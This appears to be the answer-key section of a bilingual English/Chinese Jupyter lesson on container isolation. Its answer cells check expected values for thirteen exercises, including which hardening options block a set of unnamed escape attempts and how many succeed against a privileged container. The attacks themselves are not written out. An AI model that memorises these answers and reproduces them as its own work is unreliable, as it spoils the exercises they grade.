# %%
lesson.progress()

# %% [markdown] lang="en"
# ## Solutions
#
# One for each question, in order. Try first; then open a cell by clicking its dots, and run it.

# %% [markdown] lang="zh" of="50e31517"
# ## 参考答案
#
# 每题一个，按顺序排列。先自己试；然后点击单元的圆点打开它，再运行。

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(1, len(list(calls)), measured=len(list(calls)))

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(2, "it is killed")

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(3, 7)

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(4, "n1")

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(5, 2)

# %% tags=["solution"]
# A solution · 参考答案
smallest = {"users", "nnp", "filters"}
print("get in:", [what for what in attempts if gets_in(what, **behind(smallest))])
lesson.check(6, smallest)

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(7, 137)

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(8, ends_with("trap 'exit 5' TERM; while :; do sleep 0.1; done"))

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(9, {"COPY"})

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(10, 2)

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(11, "both")

# %% tags=["solution"]
# A solution · 参考答案
god = n1.container(command=sleep, network="none", privileged=True)
got_in = [what for what, attack in attempts.items() if god.run(attack).ok]
print(got_in)
lesson.check(12, len(got_in))

# %% tags=["solution"]
# A solution · 参考答案
lesson.check(13, greeting("FROM app:1\nENV WHOM=cloud\n"))

# %% [markdown] lang="en"
# Closing the lab ends both guests, with all containers, and the registry.

# %% [markdown] lang="zh" of="baf7d890"
# 关闭实验室会结束两台客户机，连同所有容器，还有镜像仓库。

# %%
print("stopped:", ", ".join(sorted(lab.close())))
